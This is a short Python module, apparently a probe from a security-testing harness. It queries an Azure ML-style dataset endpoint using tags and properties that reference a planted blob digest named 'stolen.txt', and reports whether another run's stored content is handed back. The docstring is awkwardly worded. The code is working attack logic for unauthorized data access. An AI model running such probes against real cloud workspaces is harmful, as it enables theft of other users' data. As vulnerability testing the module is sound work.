"""Names a content of another run where a workspace says what it was told, so that it would be given that."""

from attack import BAIT, attack, every
from link import ask


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    content = {"content": BAIT["blob_digest"], "name": "stolen.txt"}
    contents = {"contents": [{"name": "stolen.txt", "digest": BAIT["blob_digest"]}], "name": "stolen"}

    def look(told):
        said = ask("dataset/get", **told)["said"]
        return "was given %s" % said if '"path"' in str(said).replace("'", '"') else ""

    return every(
        look, [{where: {"x": what}, "n": 1} for where in ("tags", "properties") for what in (content, contents)]
    )
